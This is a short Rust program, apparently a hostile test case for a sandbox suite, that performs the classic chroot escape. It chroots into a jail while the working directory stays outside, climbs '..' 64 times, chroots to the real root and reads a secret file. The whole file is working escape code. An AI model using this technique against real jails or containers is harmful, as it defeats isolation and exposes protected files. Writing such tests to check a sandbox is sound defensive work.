//! Privilege: the classic chroot escape: chroot into a subdirectory while
//! the working directory stays outside it, climb `..`, chroot(".") at the
//! real root, and read the secret. Input: a directory (the jail), the
//! secret's path.

fn main() {
    pw_hostile::attack(|input| {
        let (jail, secret) = (pw_hostile::param(input, 0)?, pw_hostile::param(input, 1)?);
        let c = pw_hostile::cstr(jail);
        // SAFETY: c is a valid path.
        let rc = unsafe { libc::chroot(c.as_ptr()) };
        pw_hostile::check(&format!("chroot {jail}"), rc)?;
        let up = pw_hostile::cstr("..");
        for _ in 0..64 {
            // SAFETY: a valid relative path.
            unsafe { libc::chdir(up.as_ptr()) };
        }
        let here = pw_hostile::cstr(".");
        // SAFETY: a valid relative path.
        let rc = unsafe { libc::chroot(here.as_ptr()) };
        pw_hostile::check("chroot .", rc)?;
        let bytes = pw_hostile::read_file(secret)?;
        Ok(String::from_utf8_lossy(&bytes).into_owned())
    })
}
